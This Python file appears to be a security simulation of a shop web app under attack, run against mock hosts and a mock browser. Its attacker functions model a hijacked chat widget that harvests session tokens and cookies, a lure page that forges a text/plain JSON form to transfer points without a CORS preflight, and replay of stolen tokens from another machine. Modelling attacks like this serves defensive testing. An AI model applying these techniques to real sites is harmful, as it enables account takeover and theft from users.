"""Customers with their browsers, a supplier of a chat widget who is broken into, and a page that promises a phone."""

import asyncio
import json
import random

from browser import Browser, Script

APP = "https://shop.example"
API = "https://api.shop.example"
CHAT = "https://widget.example/chat.js"
LURE = "https://win-a-phone.example"
ATTACKER_ID = 666

# What lies elsewhere on the web.
_web = {CHAT: Script("startSupportChat();")}
_lure_is_out = False
_stolen = []


async def customer(app, client):
    user_id = client["id"]
    browser = Browser(app, ip=f"198.51.100.{user_id % 250}", web=_web, allows=[APP])
    await asyncio.sleep(random.uniform(0, 0.8))

    page = await browser.open(f"{APP}/account_page")
    session = await page.fetch(f"{API}/login", json={"user_id": user_id}, credentials="include")
    headers = {}
    if "token" in session.body:
        page.local_storage["token"] = session["token"]
        headers["Authorization"] = "Bearer " + session["token"]
    if "csrf_token" in session.body:
        headers["X-CSRF-Token"] = session["csrf_token"]

    while True:
        await asyncio.sleep(random.expovariate(1 / 0.8))
        # The app is one page; now and then it is loaded anew, with all its scripts.
        if random.random() < 0.3:
            page = await browser.open(f"{APP}/account_page")
        await page.fetch(f"{API}/account", method="GET", headers=headers, credentials="include")
        if random.random() < 0.2:
            gift = {"to_user": random.randint(1, 50), "points": random.randint(1, 5)}
            await page.fetch(f"{API}/send_points", json=gift, headers=headers, credentials="include")
        if _lure_is_out and random.random() < 0.05:
            await win_a_phone(browser.visit(LURE))


async def win_a_phone(page):
    """A form that sends itself. As text, so that no preflight is due; with a spare member to take up the "="."""
    gift = json.dumps({"to_user": ATTACKER_ID, "points": 20, "spare": "="})
    await page.submit_form(f"{API}/send_points", gift, enctype="text/plain")


async def attacker(app, client):
    global _lure_is_out
    await asyncio.sleep(2)
    _lure_is_out = True
    # The supplier's release key was in a build log.
    _web[CHAT] = Script("startSupportChat(); collect();", run=collect)
    while True:
        await asyncio.sleep(0.2)
        while _stolen:
            await use(app, _stolen.pop())


async def collect(page):
    """What the widget does now in each page it is part of: it reads what there is to read, and sends it home."""
    if page.local_storage.get("token") or page.cookie:
        _stolen.append((page.local_storage.get("token"), page.cookie))


async def use(app, loot):
    """From a machine of his own, where no browser's rules hold."""
    token, cookie = loot
    if token is None:
        token = dict(pair.split("=", 1) for pair in cookie.split("; ")).get("session", "")
    headers = {"authorization": f"Bearer {token}"}
    request = {"method": "GET", "headers": headers, "cookies": {}, "body": "", "ip": "203.0.113.66"}
    await app.call("account", request)
